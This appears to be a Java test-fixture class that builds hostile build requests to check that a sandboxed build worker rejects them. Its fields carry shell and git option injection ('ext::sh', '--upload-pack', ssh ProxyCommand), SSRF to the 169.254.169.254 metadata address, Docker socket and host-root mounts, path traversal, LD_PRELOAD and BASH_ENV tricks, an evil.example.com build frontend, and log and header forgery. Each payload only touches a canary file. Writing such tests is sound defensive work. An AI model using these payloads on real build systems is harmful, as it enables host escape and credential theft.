package io.skypanel.worker.hostile;

import io.skypanel.worker.sandbox.BuildRequest;
import java.nio.file.Path;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;

/**
 * Jobs that attack by their fields, all of one harmless repository. Where a command is hidden in
 * one, it would make the canary.
 */
public final class HostileJobs {
  private final BuildRequest harmless;
  private final Path canary;
  private final Path outside;

  /**
   * @param harmless a build that would succeed
   * @param canary what each attack would make by {@code touch}
   * @param outside a folder of the host's with a file {@code secret}
   */
  public HostileJobs(BuildRequest harmless, Path canary, Path outside) {
    this.harmless = harmless;
    this.canary = canary;
    this.outside = outside;
  }

  /** Every attack by its name, each of an app of its own. */
  public Map<String, BuildRequest> all() {
    Map<String, BuildRequest> all = new LinkedHashMap<>();
    ids(all);
    sources(all);
    files(all);
    variables(all);
    commands(all);
    metadata(all);
    return all;
  }

  private BuildRequest job() {
    return harmless.again().app(java.util.UUID.randomUUID().toString());
  }

  private String touch() {
    return "touch " + canary;
  }

  private void ids(Map<String, BuildRequest> all) {
    all.put("deployment-climbs-out", job().with("deploymentId", "../../" + canary));
    all.put("deployment-is-an-option", job().with("deploymentId", "--help"));
    all.put("app-climbs-out", job().app("../" + canary.getFileName()));
    all.put("app-is-a-command", job().app("$(" + touch() + ")"));
    all.put("app-is-another-name", job().app("a/b:latest@sha256"));
    all.put("organization-is-a-filter", job().with("organizationId", "{\"label\": [\"x\"]}"));
    all.put("organization-is-no-text", job().with("organizationId", Map.of("x", 1)));
    all.put("branch-is-no-text", job().with("githubBranch", Map.of("a", 1)));
    all.put("commit-is-no-text", job().with("githubCommitSha", List.of("abc")));
    all.put("path-is-no-text", job().with("dockerfilePath", List.of("x")));
    all.put("path-forges-a-log-line", job().with("dockerfilePath", "x\n00:00:00.000 INFO forged"));
    all.put("name-forges-a-log-line", job().with("appName", "x\n00:00:00.000 INFO forged"));
    all.put("name-is-a-command", job().with("appName", "`" + touch() + "`; " + touch()));
  }

  private void sources(Map<String, BuildRequest> all) {
    all.put("branch-is-an-option", job().branch("--upload-pack=" + touch()));
    all.put("branch-is-a-refspec", job().branch("main:refs/heads/../../x"));
    all.put("commit-is-an-option", job().commit("--output=" + canary));
    all.put("address-of-a-program", address("ext::sh -c " + touch()));
    all.put("address-of-a-file", address("file://" + outside));
    all.put("address-of-a-path", address(outside.toString()));
    all.put("address-is-an-option", address("--upload-pack=" + touch()));
    all.put("host-is-an-ssh-option", address("ssh://-oProxyCommand=" + touch() + "/x"));
    all.put("address-of-metadata", address("http://169.254.169.254/latest.git"));
    all.put("address-of-mapped-metadata", address("http://[::ffff:a9fe:a9fe]/latest.git"));
    all.put("address-of-metadata-as-a-number", address("http://2852039166/latest.git"));
    all.put("address-of-the-engine", address("http://unix:/var/run/docker.sock:/x.git"));
  }

  private BuildRequest address(String url) {
    return job().with("githubRepoUrl", url).withConfig("repoUrl", url);
  }

  private void files(Map<String, BuildRequest> all) {
    all.put("dockerfile-of-the-host", job().dockerfile(outside.resolve("secret").toString()));
    all.put("dockerfile-climbs-out", job().dockerfile("../../../../.." + outside + "/secret"));
    all.put("root-directory-climbs-out", hint("rootDirectory", "../../.."));
    all.put("root-directory-of-the-host", hint("rootDirectory", outside.toString()));
  }

  private void variables(Map<String, BuildRequest> all) {
    all.put("variable-with-a-line-end", variable("A=1\nB", "x"));
    all.put("variable-of-an-option", variable("--privileged", "true"));
    all.put("variable-of-the-loader", variable("LD_PRELOAD", canary.toString()));
    all.put("variable-of-the-shell", variable("BASH_ENV", "$(" + touch() + ")"));
    all.put("variable-of-git", variable("GIT_SSH_COMMAND", touch()));
    all.put("variable-of-the-engine", variable("DOCKER_HOST", "tcp://127.0.0.1:1"));
    all.put("variable-of-java", variable("JAVA_TOOL_OPTIONS", "-XX:OnError=" + touch()));
    all.put("variable-of-a-frontend", variable("BUILDKIT_SYNTAX", "evil.example.com/frontend"));
    all.put("variable-with-nul", variable("A", "x\u0000y"));
    all.put("variable-without-an-end", variable("A", "x".repeat(1 << 20)));
    Map<String, Object> many = new LinkedHashMap<>();
    IntStream.range(0, 20_000).forEach(i -> many.put("A" + i, "x"));
    all.put("variables-without-number", job().environment(many));
    all.put("secrets-of-every-beginning", job().environment(secretsOfEveryBeginning()));
    all.put("port-is-a-command", variable("PORT", "$(" + touch() + ")"));
    all.put("port-beyond-all", variable("PORT", "99999999999"));
  }

  /** What would take half a KiB for each line, if masking had a table for each first character. */
  private static Map<String, Object> secretsOfEveryBeginning() {
    Map<String, Object> variables = new LinkedHashMap<>();
    int lines = 13_000;
    for (int i = 0; i < 4; i++) {
      StringBuilder value = new StringBuilder();
      IntStream.range(0x800 + i * lines, 0x800 + (i + 1) * lines)
          .forEach(first -> value.append((char) first).append("abc\n"));
      variables.put("SECRET_KEY_" + i, value.toString());
    }
    return variables;
  }

  private BuildRequest variable(String name, String value) {
    return job().environment(Map.of(name, value));
  }

  private void commands(Map<String, BuildRequest> all) {
    String leave = "'\"; " + touch() + "; echo \"$(" + touch() + ")";
    all.put("build-command-leaves-its-quotes", job().with("buildCommand", leave));
    all.put("start-command-leaves-its-quotes", job().with("startCommand", leave));
    all.put("build-command-is-a-dockerfile", job().with("buildCommand", "x\nUSER root\nRUN x"));
  }

  private void metadata(Map<String, BuildRequest> all) {
    all.put("volume-of-the-host", hint("volumes", Map.of("/", "/host")));
    all.put("volume-of-the-engine", hint("volumes", Map.of("/var/run/docker.sock", "/sock")));
    all.put("volume-over-the-root", hint("volumes", Map.of("data", "/")));
    all.put("volume-climbs-out", hint("volumes", Map.of("../../x", "/x/../../y")));
    all.put("health-check-elsewhere", hint("healthCheckPath", "@169.254.169.254/latest"));
    all.put("health-check-forges", hint("healthCheckPath", "/ HTTP/1.1\r\nHost: x\r\n\r\nGET /"));
    all.put("memory-without-end", hint("memoryMb", "999999999999999999"));
    all.put("instances-below-none", hint("port", -1));
    all.put("port-forges-a-log-line", hint("port", "x\n00:00:00.000 INFO forged"));
    all.put("values-without-end", hint("x", Collections.nCopies(500_000, Map.of())));
  }

  private BuildRequest hint(String name, Object value) {
    return job().withConfig(name, value);
  }
}
